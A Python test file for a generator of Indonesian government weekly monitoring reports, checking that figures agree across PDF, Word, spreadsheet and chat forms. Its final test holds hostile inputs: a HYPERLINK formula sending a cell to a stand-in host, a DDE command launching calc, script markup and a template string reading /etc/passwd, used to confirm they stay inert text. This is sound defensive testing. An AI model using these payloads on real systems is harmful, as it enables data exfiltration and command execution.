"""All forms of one report say the same figures: read back by other code than wrote them."""

import json
import re
from collections import Counter
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO

import docx
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings

from config import loader
from reports import printable
from reports.government import facts, figures, forms, rows, sipantau, supported, tracing
from reports.government.facts import Content, Status, Weekly
from rules.government import PLAIN, SIPANTAU, TYPED, Typed
from rules.indonesian import number
from rules.issues import Category
from rules.policy import Severity
from tests.config.conftest import CONFIG
from tests.reports import found_samples, reading, samples
from tests.reports.samples import HEADER, district, owed, problem, received, waived, week
from tests.reports.samples import due as due_at

RICH = week(
    district(1, received("R-1"), received("R-2", Content.NIL), received("R-3", late=True)),
    district(2, owed("R-4"), owed("R-5", 9), waived("R-6", "banjir")),
    district(5, received("R-7", Content.PARTIAL, late=True), *(received(f"R-1{n}", day=6) for n in range(7))),
    district(13),
    problems=(
        problem("P-1", severity=Severity.HIGH),
        problem("P-2", status=Status.ACKNOWLEDGED, category=Category.SECURITY, district="63.04.05"),
        problem("P-3", status=Status.RESOLVED, outcome="Kotak diganti", district=""),
        problem("P-4", severity=Severity.HIGH, opened_on=date(2024, 2, 5)),
    ),
    advice=("Pindahkan gudang",),
)


def made(form: str, some: Weekly) -> bytes:
    return forms.make(form, facts.to_json(some))


def sheets(some: Weekly):
    return openpyxl.load_workbook(BytesIO(made("xlsx", some)))


def values(sheet):
    return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]


def printed_rows(some: Weekly) -> list[list[int]]:
    """What the table of districts says, from the figures by their names."""
    told = figures.printed(some)
    names = [*(f"district.{own.code}" for own in some.districts), "reports"]
    return [[told[f"{name}.{what}"] for what in rows.PRINTED] for name in names]


def rows_of_docx(some: Weekly) -> list[list[int]]:
    word = docx.Document(BytesIO(made("docx", some)))
    (table,) = (own for own in word.tables if "Dikecualikan" in own.rows[0]._tr.xpath("string(.)"))
    cells = ([cell.text for cell in row.cells][3:-1] for row in table.rows[2:])
    return [[int(cell.replace(".", "")) for cell in row] for row in cells]


def rows_of_xlsx(some: Weekly) -> list[list[int]]:
    return [row[3:-1] for row in values(sheets(some)["Penerimaan"])]


def rows_of_pdf(some: Weekly) -> list[list[int]]:
    annex = reading.text(made("pdf", some)).split("Lampiran I. ")[1]
    found = [re.search(rf"{own.name} {own.team} ((?:[\d.]+ ){{8}})", annex) for own in some.districts]
    found.append(re.search(r"Jumlah ((?:[\d.]+ ){8})", annex))
    return [[int(cell.replace(".", "")) for cell in row[1].split()] for row in found]


@pytest.mark.parametrize("read", [rows_of_pdf, rows_of_docx, rows_of_xlsx])
def test_the_table_of_districts_says_the_same_in_every_form(read):
    assert read(RICH) == printed_rows(RICH)


def support_of_docx(some: Weekly) -> list[list[int]]:
    word = docx.Document(BytesIO(made("docx", some)))
    (table,) = (own for own in word.tables if "Persiapan" in own.rows[0]._tr.xpath("string(.)"))
    return [[int(cell.text) for cell in row.cells[3:]] for row in table.rows[1:]]


def support_of_xlsx(some: Weekly) -> list[list[int]]:
    return [row[3:] for row in values(sheets(some)["Dukungan"])]


def support_of_pdf(some: Weekly) -> list[list[int]]:
    told = reading.text(made("pdf", some)).split("Dukungan perangkat daerah")[1]
    heads = [r"11 Februari 2024", r"Rekapitulasi –", r"Jumlah"]
    return [[int(cell) for cell in re.search(rf"{head} ((?:\d+ ){{6}})", told)[1].split()] for head in heads]


@pytest.mark.parametrize("read", [support_of_pdf, support_of_docx, support_of_xlsx])
def test_the_table_of_support_says_the_same_in_every_form(read):
    some = found_samples.week()
    told = figures.printed(some)
    names = [*(f"support.{own.code}" for own in some.findings.support), "support"]

    assert read(some) == [[told[f"{name}.{what}"] for what in supported.COUNTS] for name in names]


def test_every_figure_of_support_can_be_counted_again_from_the_items_of_the_spreadsheet():
    some = found_samples.week()
    told = figures.printed(some)

    items = values(sheets(some)["Rincian dukungan"])

    states = Counter(row[5] for row in items)
    assert told["support.total"] == len(items) - states["bukan bagiannya"]
    assert (told["support.ready"], told["support.unanswered"]) == (states["siap"], states["belum dijawab"])
    assert told["support.late"] == [row[7] for row in items].count("ya")
    traced = {own["name"]: own for own in json.loads(tracing.to_json(some))["figures"]}
    assert traced["support.late"] == {"name": "support.late", "value": 1, "rows": {"R-0705": 1}, "withheld": 0}
    assert not [own for own in traced.values() if own["name"].startswith("support.") and own["withheld"]]


@given(samples.weeks())
@settings(deadline=None, max_examples=5, suppress_health_check=[HealthCheck.too_slow])
def test_any_week_says_the_same_as_word_and_as_a_spreadsheet(some):
    assert rows_of_docx(some) == rows_of_xlsx(some) == printed_rows(some)


@given(samples.weeks())
@settings(deadline=None, max_examples=10, suppress_health_check=[HealthCheck.too_slow])
def test_a_spreadsheet_has_every_figure_by_its_name_and_the_rows_to_count_again(some):
    book = sheets(some)

    listed = [(name, count) for name, count in values(book["Angka"])]
    named = dict(listed)
    keeping, contents = (Counter(row[n] for row in values(book["Laporan"])) for n in (5, 6))
    states = Counter(row[9] for row in values(book["Permasalahan"]))
    assert listed == [(printable.written(name), count) for name, count in figures.printed(some).items()]
    assert named["reports.missing"] == keeping["belum diterima"]
    assert named["reports.received"] == keeping["diterima"]
    assert named["reports.waived"] == keeping["dikecualikan"]
    assert named["reports.nil"] == contents["nihil"]
    assert named["problems.unresolved"] == sum(states.values()) - states["selesai"]


@pytest.mark.parametrize("form", ["pdf", "docx", "text"])
def test_the_figures_for_a_reader_in_a_hurry_are_the_same_in_every_form(form):
    told = figures.printed(RICH)
    shown = {
        "pdf": lambda: reading.text(made("pdf", RICH)),
        "docx": lambda: reading.word(made("docx", RICH)),
        "text": lambda: re.sub(r"\s+", " ", made("text", RICH).decode()),
    }[form]()

    for figure, words in (
        (f"{told['reports.received']} dari {told['reports.owed']}", "laporan diterima"),
        (f"{told['districts.complete']} dari {told['districts']}", "kecamatan lengkap"),
        (number(told["reports.missing"]), "laporan belum diterima"),
        (number(told["problems.unresolved"]), f"permasalahan belum selesai, {told['problems.grave']} sangat rawan"),
    ):
        assert f"{figure} {words}" in shown


def test_a_chat_is_told_the_gravest_first_and_then_what_is_owed_by_its_deadline():
    lines = made("text", RICH).decode().splitlines()

    assert [line[:7] for line in lines if "P-" in line] == ["1. P-4,", "2. P-1,", "3. P-2,"]
    assert lines[lines.index("*Laporan belum diterima: 2*") + 1 :][:2] == [
        "1. R-4, Kec. Tamban: Laporan harian, batas 5 Februari 2024 pukul 15.00 WITA",
        "2. R-5, Kec. Tamban: Laporan harian, batas 9 Februari 2024 pukul 15.00 WITA",
    ]


def test_of_the_same_gravity_a_chat_is_told_what_is_due_first():
    due = {"P-1": None, "P-2": due_at(8), "P-3": due_at(6)}
    some = week(problems=tuple(problem(code, due_at=at) for code, at in due.items()))

    lines = made("text", some).decode().splitlines()

    assert [line[3:6] for line in lines if "P-" in line] == ["P-3", "P-2", "P-1"]
    assert any(line.endswith("langkah berikut 6 Februari 2024 pukul 15.00 WITA)") for line in lines)


def test_a_chat_is_told_how_many_more_there_are():
    lines = made("text", week(problems=tuple(problem(f"P-{n:03}") for n in range(500)))).decode().splitlines()

    assert len(lines) < 50
    assert "… dan 470 lagi, semuanya dalam laporan." in lines


def test_a_spreadsheet_computes_with_days_instants_and_shares():
    book = sheets(RICH)

    reports, problems, receipts = (values(book[name]) for name in ("Laporan", "Permasalahan", "Penerimaan"))
    assert reports[0][4] == datetime(2024, 2, 5, 15, 0)
    assert problems[0][2] == datetime(2024, 2, 6)
    assert receipts[1][-1] == 0
    assert receipts[0][-1] == 1
    assert {cell.data_type for row in book["Angka"].iter_rows(min_row=2, min_col=2) for cell in row} == {"n"}
    assert book.properties.created.replace(tzinfo=UTC) == RICH.header.cut_off


def test_the_sheet_to_type_over_has_the_columns_of_the_kind_in_its_order():
    columns = (Typed("Tgl", "date"), Typed("Pilih", "blank"), Typed("Uraian", "title"), Typed("Tahapan", "stage"))

    book = openpyxl.load_workbook(BytesIO(made("sipantau", replace(RICH, kind=replace(PLAIN, sipantau=columns)))))

    (sheet,) = book.worksheets
    assert [cell.value for cell in sheet[1]] == ["Tgl", "Pilih", "Uraian", "Tahapan"]
    assert values(sheet)[0] == [datetime(2024, 2, 6), None, "Kotak suara lembap", "Masa Kampanye Pemilu"]
    assert len(values(sheet)) == len(RICH.problems)


def test_every_content_of_a_column_is_known_to_the_sheet():
    assert sipantau.HOLDS.keys() == TYPED.keys()
    assert loader.reports(CONFIG / "reports")["laporan-gubernur"].sipantau == SIPANTAU


HOSTILE = {
    "a formula": '=HYPERLINK("http://x.test/?"&A1,"klik")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "markup": "</w:t></w:p><script>alert(1)</script>&amp;]]>",
    "what XML forbids": "satu\x00dua\x0btiga\ufffe",
    "another direction": "awal\u202eriab",
    "many letters": "panjang" * 2000,
    "many marks": "a" + "\u0301" * 500,
    "emoji and other scripts": "banjir 🌊 水 ভোট",
    "a half pair": "x\ud800y",
    "a template": "{{7*7}} {% raw %} #read(\"/etc/passwd\") $x$",
    "many lines": "satu\n\n\ndua\r\n\ttiga",
}  # fmt: skip


@pytest.mark.parametrize("form", [form.code for form in forms.FORMS])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_whatever_people_write_stays_text_in_every_form(form, text):
    told = problem(title=text, office=text, outcome=text, category=text, code=text)
    head = replace(HEADER, desk=text, copies=(text,), subject=text, signatory=text, nature=text, seat=text, to=text)
    place = replace(district(2, replace(owed("R-1"), duty=text), waived("R-2", text)), name=text, team=text)
    some = replace(week(place, problems=(told,), advice=(text,)), legal_bases=(text,), header=head)

    content = forms.make(form, facts.to_json(some))

    if form == "xlsx" or form == "sipantau":
        cells = [cell for sheet in openpyxl.load_workbook(BytesIO(content)) for row in sheet for cell in row]
        assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    if form == "docx":
        assert "7*7" in reading.word(content) or "{{" not in text
    if form == "text":
        assert not re.search("[\x00-\x09\x0b-\x1f\u202e]", content.decode())
